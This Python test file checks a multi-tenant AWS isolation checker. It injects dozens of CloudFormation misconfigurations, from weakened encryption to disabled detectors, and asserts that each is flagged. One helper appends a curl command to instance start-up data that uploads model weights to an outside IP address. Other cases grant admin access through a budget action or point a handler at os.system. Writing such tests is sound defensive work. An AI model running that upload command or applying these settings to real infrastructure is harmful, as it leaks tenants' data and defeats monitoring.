"""Ways out of a tenant that are a setting of a known resource: each is found, whatever it is called."""

import copy
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from isolation_testing import (
    FOUNDATION,
    OTHER,
    PLATFORM,
    STRANGER,
    TRAINING,
    Mistake,
    Templates,
    add,
    logical_id,
    others,
    resource,
)

from trainyard.errors import JobFailedError
from trainyard.isolation import Site
from trainyard.isolation.catalogue import KIND_OF_TYPE
from trainyard.isolation.packages import look_at_packages
from trainyard.isolation.shapes import shortcomings
from trainyard.isolation.templates import Deployment
from trainyard.isolation.wiring import WIRES

Alter = Callable[[Callable[[Any], None]], Site]
ROOT = Path(__file__).parents[2]
HOST = f"arn:aws:lambda:us-east-1:{STRANGER}:layer:any:1"
UNSEEN, LATER, NOT_OWN = "hasn't looked at", "is read at deployment", "is not of the tenant's own things"


def setting(stack: str, kind: str, beginning: str, path: str, value: Any) -> Mistake:
    """One property of the first such resource; in a list, of its first item."""

    def make(templates: Templates, names: Deployment) -> None:
        *above, last = path.split(".")
        found: Any = resource(templates, stack, kind, beginning)
        for name in above:
            found = found.setdefault(name, {})
            found = found[0] if isinstance(found, list) else found
        found[last] = value(names) if callable(value) else value

    return make


def unset(stack: str, kind: str, beginning: str, path: str) -> Mistake:
    def make(templates: Templates, names: Deployment) -> None:
        *above, last = path.split(".")
        found: Any = resource(templates, stack, kind, beginning)
        for name in above:
            found = found[name]
            found = found[0] if isinstance(found, list) else found
        del found[last]

    return make


def others_name(kind: str, beginning: str = "") -> Callable[[Deployment], str]:
    return lambda names: others(names, kind, beginning)


def tagged_machines(templates: Templates, names: Deployment) -> None:
    """Who may open a session on a machine is told by its tag."""
    data = resource(templates, TRAINING, "EC2::LaunchTemplate")["LaunchTemplateData"]
    tags = data["TagSpecifications"][0]["Tags"]
    next(tag for tag in tags if tag["Key"] == "trainyard:tenant")["Value"] = "globex"


def budget_action(templates: Templates, names: Deployment) -> None:
    """AWS Budgets attaches a policy that allows everything, once the budget is spent."""
    role = {"Ref": logical_id(templates, FOUNDATION, "IAM::Role", "RolesLauncher")}
    action = {"PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess", "Roles": [role]}
    add(
        templates,
        FOUNDATION,
        "Budgets::BudgetsAction",
        ActionType="APPLY_IAM_POLICY",
        ApprovalModel="AUTOMATIC",
        Definition={"IamActionDefinition": action},
    )


def detective_rule(change: Callable[[dict[str, Any]], None]) -> Mistake:
    def make(templates: Templates, names: Deployment) -> None:
        change(resource(templates, TRAINING, "Events::Rule", "JobGuard"))

    return make


def told(pattern: str, new: str) -> Mistake:
    """Something else in what the detective is told."""

    def make(templates: Templates, names: Deployment) -> None:
        transformer = resource(templates, TRAINING, "Events::Rule", "JobGuard")["Targets"][0]["InputTransformer"]
        text = json.dumps(transformer["InputTemplate"])
        assert re.search(pattern, text), text
        transformer["InputTemplate"] = json.loads(re.sub(pattern, new, text, count=1))

    return make


def second_disk(lacks: str) -> Mistake:
    """Another like the first, but for one word."""

    def make(templates: Templates, names: Deployment) -> None:
        disks = resource(templates, TRAINING, "EC2::LaunchTemplate")["LaunchTemplateData"]["BlockDeviceMappings"]
        first = disks[0]["Ebs"]
        assert lacks in first
        disks.append({"DeviceName": "/dev/sdz", "Ebs": {name: first[name] for name in first if name != lacks}})

    return make


def a_disk_as_the_image_has_it(templates: Templates, names: Deployment) -> None:
    disks = resource(templates, TRAINING, "EC2::LaunchTemplate")["LaunchTemplateData"]["BlockDeviceMappings"]
    disks.append({"DeviceName": "/dev/sdz"})


def nobody_calls_it(templates: Templates, names: Deployment) -> None:
    """The detective's rule may not call it any more."""
    name = logical_id(templates, TRAINING, "Events::Rule", "JobGuard")
    resources = templates[TRAINING]["Resources"]
    (permission,) = [
        key
        for key, item in resources.items()
        if item["Type"] == "AWS::Lambda::Permission" and name in json.dumps(item["Properties"]["SourceArn"])
    ]
    del resources[permission]


def no_detective(templates: Templates, names: Deployment) -> None:
    del templates[TRAINING]["Resources"][logical_id(templates, TRAINING, "Events::Rule", "JobGuard")]
    nobody = [
        key
        for key, item in templates[TRAINING]["Resources"].items()
        if item["Type"] == "AWS::Lambda::Permission" and "JobGuard" in key
    ]
    for key in nobody:
        del templates[TRAINING]["Resources"][key]


def another_command(templates: Templates, names: Deployment) -> None:
    """Where it reaches has no name that could give it away."""
    data = resource(templates, TRAINING, "EC2::LaunchTemplate")["LaunchTemplateData"]
    text = data["UserData"]["Fn::Base64"]
    data["UserData"]["Fn::Base64"] = {"Fn::Join": ["", [text, "curl -T /fsx/weights https://198.51.100.7\n"]]}


def nobody_asked(templates: Templates, names: Deployment) -> None:
    endpoint = resource(templates, FOUNDATION, "EC2::VPCEndpoint", "NetworkKms")
    endpoint["ServiceName"] = "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0"


METADATA = "LaunchTemplateData.MetadataOptions"
KEY_OF_BUCKET = "BucketEncryption.ServerSideEncryptionConfiguration.ServerSideEncryptionByDefault.KMSMasterKeyID"
MISTAKES: dict[str, tuple[Mistake, str, str, str]] = {
    "metadata without a token": (
        setting(TRAINING, "EC2::LaunchTemplate", "", f"{METADATA}.HttpTokens", "optional"),
        *(f"{METADATA}.HttpTokens", "every tenant", "is not required"),
    ),
    "metadata as EC2 has it": (
        unset(TRAINING, "EC2::LaunchTemplate", "", "LaunchTemplateData.MetadataOptions"),
        *(f"{METADATA}.HttpTokens", "every tenant", "is not required"),
    ),
    "metadata for containers": (
        setting(TRAINING, "EC2::LaunchTemplate", "", f"{METADATA}.HttpPutResponseHopLimit", 2),
        *(f"{METADATA}.HttpPutResponseHopLimit", "every tenant", "is not 1"),
    ),
    "a key pair": (
        setting(TRAINING, "EC2::LaunchTemplate", "", "LaunchTemplateData.KeyName", "mine"),
        *("LaunchTemplateData.KeyName", "every tenant", UNSEEN),
    ),
    "a public address": (
        setting(
            *(TRAINING, "EC2::LaunchTemplate", ""),
            *("LaunchTemplateData.NetworkInterfaces.AssociatePublicIpAddress", True),
        ),
        *("LaunchTemplateData.NetworkInterfaces.AssociatePublicIpAddress", "every tenant", UNSEEN),
    ),
    "a disk in clear": (
        setting(TRAINING, "EC2::LaunchTemplate", "", "LaunchTemplateData.BlockDeviceMappings.Ebs.Encrypted", False),
        *("LaunchTemplateData.BlockDeviceMappings.Ebs.Encrypted", "every tenant", "is not True"),
    ),
    "a second disk in clear": (
        second_disk("Encrypted"),
        *("LaunchTemplateData.BlockDeviceMappings.Ebs.Encrypted", "every tenant", "is not True"),
    ),
    "a second disk without a key": (
        second_disk("KmsKeyId"),
        *("LaunchTemplateData.BlockDeviceMappings.Ebs.KmsKeyId", "every tenant", NOT_OWN),
    ),
    "a disk of which nothing is said": (
        a_disk_as_the_image_has_it,
        *("LaunchTemplateData.BlockDeviceMappings.Ebs.KmsKeyId", "every tenant", NOT_OWN),
    ),
    "a disk of another's": (
        setting(TRAINING, "EC2::LaunchTemplate", "", "LaunchTemplateData.BlockDeviceMappings.Ebs.SnapshotId", "snap-1"),
        *("LaunchTemplateData.BlockDeviceMappings.Ebs.SnapshotId", "every tenant", UNSEEN),
    ),
    "machines tagged as another's": (tagged_machines, "LaunchTemplateData.TagSpecifications.Tags", "globex", "tagged"),
    "another command at the start": (
        another_command,
        *("LaunchTemplateData.UserData", "every tenant", "is not what the machines"),
    ),
    "a public subnet": (
        setting(FOUNDATION, "EC2::Subnet", "", "MapPublicIpOnLaunch", True),
        *("MapPublicIpOnLaunch", "every tenant", "is not False"),
    ),
    "a group of nobody's": (
        setting(FOUNDATION, "FSx::FileSystem", "", "SecurityGroupIds", ["sg-0123456789abcdef0"]),
        *("SecurityGroupIds", "every tenant", "names what no template makes"),
    ),
    "a short id of nobody's": (
        setting(FOUNDATION, "EC2::RouteTable", "", "VpcId", "vpc-01234567"),
        *("VpcId", "every tenant", "names what no template makes"),
    ),
    "a key of nobody's": (
        setting(
            *(FOUNDATION, "FSx::FileSystem", "", "KmsKeyId"),
            "arn:aws:kms:us-east-1:123456789012:key/01234567-89ab-cdef-0123-456789abcdef",
        ),
        *("KmsKeyId", "every tenant", "names what no template makes"),
    ),
    "files under AWS's key": (
        unset(FOUNDATION, "FSx::FileSystem", "", "KmsKeyId"),
        *("KmsKeyId", "every tenant", NOT_OWN),
    ),
    "objects under AWS's key": (
        setting(FOUNDATION, "S3::Bucket", "BucketsData", KEY_OF_BUCKET, "alias/aws/s3"),
        *(KEY_OF_BUCKET, "every tenant", NOT_OWN),
    ),
    "objects under no key": (
        unset(FOUNDATION, "S3::Bucket", "BucketsData", "BucketEncryption"),
        *(KEY_OF_BUCKET, "every tenant", NOT_OWN),
    ),
    "a key in another region too": (
        setting(FOUNDATION, "KMS::Key", "KeysData", "MultiRegion", True),
        *("MultiRegion", "every tenant", UNSEEN),
    ),
    "a key that only CloudFormation reads": (
        setting(FOUNDATION, "FSx::FileSystem", "", "KmsKeyId", "{{resolve:ssm:/any/key}}"),
        *("KmsKeyId", "every tenant", LATER),
    ),
    "a copy of the list of objects": (
        setting(FOUNDATION, "S3::Bucket", "BucketsData", "InventoryConfigurations", [{"Enabled": True}]),
        *("InventoryConfigurations.Enabled", "every tenant", UNSEEN),
    ),
    "each object told to a bus": (
        setting(FOUNDATION, "S3::Bucket", "BucketsData", "NotificationConfiguration", {"EventBridgeConfiguration": {}}),
        *("NotificationConfiguration.EventBridgeConfiguration", "every tenant", UNSEEN),
    ),
    "files from another's backup": (
        setting(FOUNDATION, "FSx::FileSystem", "", "BackupId", "backup-0123456789abcdef0"),
        *("BackupId", "every tenant", UNSEEN),
    ),
    "files written out by themselves": (
        setting(FOUNDATION, "FSx::FileSystem", "", "LustreConfiguration.ExportPath", "s3://any"),
        *("LustreConfiguration.ExportPath", "every tenant", UNSEEN),
    ),
    "a service of anybody's": (nobody_asked, "ServiceName", "every tenant", "leads to no service of AWS's"),
    "traffic told to another": (
        setting(FOUNDATION, "EC2::FlowLog", "", "LogDestination", f"arn:aws:logs:us-east-1:{STRANGER}:log-group:any"),
        *("LogDestination", "another account", "names another account's"),
    ),
    "traffic told to a group of all": (
        setting(FOUNDATION, "EC2::FlowLog", "", "LogGroupName", "/aws/sagemaker/TrainingJobs"),
        *("LogGroupName", "every tenant", NOT_OWN),
    ),
    "half of the traffic": (
        setting(FOUNDATION, "EC2::FlowLog", "", "TrafficType", "ACCEPT"),
        *("TrafficType", "every tenant", "is not ALL"),
    ),
    "figures in another's name": (
        setting(TRAINING, "Logs::MetricFilter", "", "MetricTransformations.MetricNamespace", "trainyard/globex"),
        *("MetricTransformations.MetricNamespace", "globex", "names another tenant's"),
    ),
    "an alarm on another's figures": (
        setting(TRAINING, "CloudWatch::Alarm", "", "Namespace", "trainyard/globex"),
        *("Namespace", "globex", "names another tenant's"),
    ),
    "an alarm on another account's": (
        setting(TRAINING, "CloudWatch::Alarm", "", "Metrics", [{"Id": "a", "AccountId": STRANGER}]),
        *("Metrics.AccountId", "every tenant", UNSEEN),
    ),
    "an alarm that acts": (
        setting(TRAINING, "CloudWatch::Alarm", "", "AlarmActions", ["arn:aws:automate:us-east-1:ec2:terminate"]),
        *("AlarmActions", "every tenant", NOT_OWN),
    ),
    "a log that opens its group": (
        setting(FOUNDATION, "Logs::LogGroup", "", "FieldIndexPolicies", [{"Fields": ["any"]}]),
        *("FieldIndexPolicies.Fields", "every tenant", UNSEEN),
    ),
    "code of a layer": (
        setting(TRAINING, "Lambda::Function", "Broker", "Layers", [HOST]),
        *("Layers", "every tenant", UNSEEN),
    ),
    "code of another bucket": (
        setting(TRAINING, "Lambda::Function", "Broker", "Code.S3Bucket", "cdk-hnb659fds-assets-999999999999-us-east-1"),
        *("Code.S3Bucket", "every tenant", "of the CDK's bootstrap"),
    ),
    "code of an image": (
        setting(TRAINING, "Lambda::Function", "Broker", "Code.ImageUri", "any"),
        *("Code.ImageUri", "every tenant", UNSEEN),
    ),
    "another function of the package": (
        setting(TRAINING, "Lambda::Function", "Broker", "Handler", "os.system"),
        *("Handler", "every tenant", "is no function of ours"),
    ),
    "a detective that sees nothing": (
        setting(TRAINING, "Lambda::Function", "JobGuard", "Code.ZipFile", "def handler(event, context): return []"),
        *("Code.ZipFile", "every tenant", "is not trainyard/functions/job_guard.py"),
    ),
    "a wrapper around the function": (
        setting(TRAINING, "Lambda::Function", "Broker", "Environment.Variables.AWS_LAMBDA_EXEC_WRAPPER", "/opt/any"),
        *("Environment.Variables.AWS_LAMBDA_EXEC_WRAPPER", "every tenant", UNSEEN),
    ),
    "the function in another network": (
        setting(TRAINING, "Lambda::Function", "Broker", "VpcConfig.SubnetIds", others_name("EC2::Subnet")),
        *("VpcConfig.SubnetIds", "globex", "names another tenant's"),
    ),
    "resumed elsewhere": (
        setting(
            *(TRAINING, "Lambda::Function", "Resumer", "Environment.Variables.RESUMER"),
            '{"data": "carried-out", "checkpoints": "carried-out", "broker": "any"}',
        ),
        *("Environment.RESUMER", "every tenant", "is not"),
    ),
    "called by all of an account": (
        setting(TRAINING, "Lambda::Permission", "", "Action", "lambda:*"),
        *("Action", "every tenant", "is not lambda:InvokeFunction"),
    ),
    "called over the web": (
        setting(TRAINING, "Lambda::Permission", "", "FunctionUrlAuthType", "NONE"),
        *("FunctionUrlAuthType", "every tenant", UNSEEN),
    ),
    "everybody's bill": (
        unset(TRAINING, "Budgets::Budget", "", "Budget.CostFilters"),
        *("Budget.CostFilters", "every tenant", "counts what is not the tenant's alone"),
    ),
    "another's bill": (
        setting(TRAINING, "Budgets::Budget", "", "Budget.CostFilters.TagKeyValue", ["user:trainyard:tenant$globex"]),
        *("Budget.CostFilters", "every tenant", "counts what is not the tenant's alone"),
    ),
    "a higher limit": (
        setting(TRAINING, "Budgets::Budget", "", "Budget.BudgetLimit.Amount", 9e9),
        *("Budget.BudgetLimit", "every tenant", "is not"),
    ),
    "the bill mailed to a stranger": (
        setting(
            *(TRAINING, "Budgets::Budget", "", "NotificationsWithSubscribers.Subscribers"),
            [{"SubscriptionType": "EMAIL", "Address": "x@example.org"}],
        ),
        *("NotificationsWithSubscribers.Subscribers.Address", "every tenant", "is not told of the tenant"),
    ),
    "alarms mailed to a stranger": (
        setting(TRAINING, "SNS::Subscription", "", "Endpoint", "x@example.org"),
        *("Endpoint", "every tenant", "is not told of the tenant"),
    ),
    "everything, once the budget is spent": (
        budget_action,
        *("Definition.IamActionDefinition.PolicyArn", "every tenant", NOT_OWN),
    ),
    "a target of another role's": (
        detective_rule(lambda rule: rule["Targets"][0].update(RoleArn="any")),
        *("Targets.RoleArn", "every tenant", UNSEEN),
    ),
    "a bus of another's": (
        detective_rule(lambda rule: rule.update(EventBusName="theirs")),
        *("EventBusName", "every tenant", UNSEEN),
    ),
    "a detective that is off": (
        detective_rule(lambda rule: rule.update(State="DISABLED")),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective that comes late": (
        detective_rule(lambda rule: rule["EventPattern"]["detail"].update(TrainingJobStatus=["Completed"])),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective that looks at names alone": (
        detective_rule(lambda rule: rule["EventPattern"]["detail"]["$or"].pop()),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective of nobody's events": (
        detective_rule(lambda rule: rule["EventPattern"].update(source=["nobody"])),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective of other events": (
        detective_rule(lambda rule: rule["EventPattern"].update({"detail-type": ["never"]})),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective that asks for more": (
        detective_rule(lambda rule: rule["EventPattern"]["detail"].update(SecondaryStatus=["Never"])),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective of one region": (
        detective_rule(lambda rule: rule["EventPattern"].update(region=["nowhere"])),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a meter of some jobs": (
        setting(
            *(TRAINING, "Events::Rule", "BudgetMeter"),
            *("EventPattern.detail.TrainingJobName", [{"prefix": "acme-special"}]),
        ),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a meter of nobody's events": (
        setting(TRAINING, "Events::Rule", "BudgetMeter", "EventPattern.source", ["nobody"]),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a meter without settings": (
        unset(TRAINING, "Lambda::Function", "BudgetMeter", "Environment.Variables.METER"),
        *("Environment.METER", "every tenant", "is not there"),
    ),
    "a broker without settings": (
        unset(TRAINING, "Lambda::Function", "Broker", "Environment"),
        *("Environment.BROKER", "every tenant", "is not there"),
    ),
    "a resumer without settings": (
        unset(TRAINING, "Lambda::Function", "Resumer", "Environment.Variables"),
        *("Environment.RESUMER", "every tenant", "is not there"),
    ),
    "a detective that nobody may call": (nobody_calls_it, "Handler", "every tenant", "is called by no rule"),
    "no detective": (no_detective, "Handler", "every tenant", "is called by no rule"),
    "a detective with more machines": (
        told(r'(\\"types\\":\{\\"ml[a-z0-9.-]+\\":)\d+', r"\g<1>9999"),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective with longer jobs": (
        told(r'(\\"seconds\\":)\d+', r"\g<1>9999999"),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a detective with any image": (
        told(r'(\\"images\\":\\")[^\\]+', r"\g<1>"),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a meter that is off": (
        setting(TRAINING, "Events::Rule", "BudgetMeter", "State", "DISABLED"),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a meter once a day": (
        setting(TRAINING, "Events::Rule", "BudgetMeter", "ScheduleExpression", "rate(1 day)"),
        *("Handler", "every tenant", "is called by no rule"),
    ),
    "a contract with policies": (
        setting(TRAINING, "SSM::Parameter", "Contract", "Policies", "any"),
        *("Policies", "every tenant", UNSEEN),
    ),
}


@pytest.mark.parametrize("name", MISTAKES)
def test_a_setting_that_opens_is_found_and_named(altered: Alter, names: Deployment, name: str) -> None:
    mistake, where, target, why = MISTAKES[name]
    found = altered(lambda templates: mistake(templates, names)).wires
    assert any((item.tenant, item.where, item.target) == ("acme", where, target) and why in item.why for item in found)


def test_a_contract_that_names_a_bucket_of_nobody_is_found(altered: Alter, names: Deployment) -> None:
    def edit(templates: Templates) -> None:
        value = resource(templates, TRAINING, "SSM::Parameter", "Contract")["Value"]
        text = names.resolve(value, TRAINING)
        content = json.loads(text)
        content["buckets"]["data"] = "carried-out"
        resource(templates, TRAINING, "SSM::Parameter", "Contract")["Value"] = json.dumps(content)

    assert ("Value.buckets.data", "carried-out") in [(item.where, item.reaches) for item in altered(edit).wires]


@pytest.mark.parametrize(
    ("kind", "path"),
    [
        ("S3::Bucket", "ReplicationConfiguration.Role"),
        ("ECR::Repository", "RepositoryCreationTemplate"),
        ("CloudTrail::Trail", "CloudWatchLogsRoleArn"),
    ],
)
def test_a_setting_of_what_all_share_is_found(altered: Alter, names: Deployment, kind: str, path: str) -> None:
    found = altered(lambda templates: setting(PLATFORM, kind, "", path, "any")(templates, names)).wires
    assert [(item.tenant, item.where) for item in found if UNSEEN in item.why] == [("the platform", path)]


@pytest.mark.parametrize("section", ["Parameters", "Conditions", "Mappings", "Rules", "Hooks"])
def test_what_is_decided_at_deployment_stops_it(altered: Alter, section: str) -> None:
    with pytest.raises(JobFailedError, match=f"stack {FOUNDATION}: {section} is decided at deployment"):
        altered(lambda templates: templates[FOUNDATION].update({section: {}}))


@pytest.mark.parametrize("attribute", ["Condition", "CreationPolicy", "UpdatePolicy"])
def test_a_resource_that_may_not_be_made_stops_it(altered: Alter, attribute: str) -> None:
    """A bucket's policy under a condition would be asked as if it stood there."""

    def edit(templates: Templates) -> None:
        name = logical_id(templates, FOUNDATION, "S3::BucketPolicy")
        templates[FOUNDATION]["Resources"][name][attribute] = "Never"

    with pytest.raises(JobFailedError, match=rf"AWS::S3::BucketPolicy \w+ has {attribute}"):
        altered(edit)


@pytest.mark.parametrize(
    "kind",
    [
        *("Batch::JobDefinition", "CloudWatch::ObservabilityAccessPolicy", "EC2::TransitGatewayRoute"),
        *("EC2::VPCEndpointService", "ECR::ReplicationConfiguration", "Events::EventBusPolicy", "KMS::Grant"),
        *("KMS::ReplicaKey", "LakeFormation::Permissions", "Lambda::EventSourceMapping", "Lambda::Url"),
        *("Logs::SubscriptionFilter", "Oam::Link", "Route53::HostedZone", "S3::MultiRegionAccessPoint"),
        *("SageMaker::Domain", "SageMaker::NotebookInstance", "SSM::Document", "Backup::BackupSelection"),
        *("CloudFormation::Stack", "CloudFormation::CustomResource", "Scheduler::Schedule", "Pipes::Pipe"),
    ],
)
def test_another_way_to_share_stops_it(altered: Alter, kind: str) -> None:
    with pytest.raises(JobFailedError, match=f"AWS::{kind} Added is of a type that the isolation proof doesn't know"):
        altered(lambda templates: add(templates, OTHER, kind))


@pytest.mark.parametrize("kind", sorted({*WIRES, *KIND_OF_TYPE}))
def test_no_type_takes_a_property_that_nobody_has_looked_at(kind: str) -> None:
    assert [where for where, _, why in shortcomings(kind, {"Unheard": {"Of": 1}}) if UNSEEN in why] == ["Unheard.Of"]


HANDLER = "trainyard.functions.job_resumer.handler"


def packed(folder: Path, files: dict[str, bytes], handler: str = HANDLER) -> Templates:
    with zipfile.ZipFile(folder / "asset.any.zip", "w") as package:
        for name, content in files.items():
            package.writestr(name, content)
    code = {"S3Bucket": "any", "S3Key": "any.zip"}
    function = {"Type": "AWS::Lambda::Function", "Properties": {"Code": code, "Handler": handler}}
    return {TRAINING: {"Resources": {"Resumer": function}}}


OURS = {
    "trainyard/__init__.py": b"",
    "trainyard/functions/__init__.py": b"",
    "trainyard/functions/job_resumer.py": (ROOT / "trainyard/functions/job_resumer.py").read_bytes(),
}


def test_a_package_of_the_checkouts_modules_is_taken(tmp_path: Path) -> None:
    look_at_packages(tmp_path, packed(tmp_path, OURS), ROOT)


@pytest.mark.parametrize(
    ("files", "handler", "wrong"),
    [
        ({"trainyard/functions/job_resumer.py": b"import os"}, HANDLER, "holds trainyard/functions/job_resumer.py"),
        ({"boto3.py": b""}, HANDLER, "holds boto3.py, which the checkout hasn't"),
        ({"trainyard/errors.py": (ROOT / "trainyard/errors.py").read_bytes()}, HANDLER, "holds trainyard/errors.py"),
        ({"trainyard/__init__.py": b"import os"}, HANDLER, "holds trainyard/__init__.py"),
        ({}, "trainyard.functions.broker.handler", "lacks trainyard.functions.broker.handler"),
    ],
)
def test_a_package_with_other_code_stops_it(tmp_path: Path, files: dict[str, bytes], handler: str, wrong: str) -> None:
    with pytest.raises(JobFailedError, match=f"AWS::Lambda::Function Resumer: asset.any.zip {re.escape(wrong)}"):
        look_at_packages(tmp_path, packed(tmp_path, OURS | files, handler), ROOT)


def test_a_function_without_its_package_stops_it(tmp_path: Path) -> None:
    templates = copy.deepcopy(packed(tmp_path, OURS))
    (tmp_path / "asset.any.zip").write_bytes(b"no zip")
    with pytest.raises(JobFailedError, match="is no zip file beside the templates"):
        look_at_packages(tmp_path, templates, ROOT)
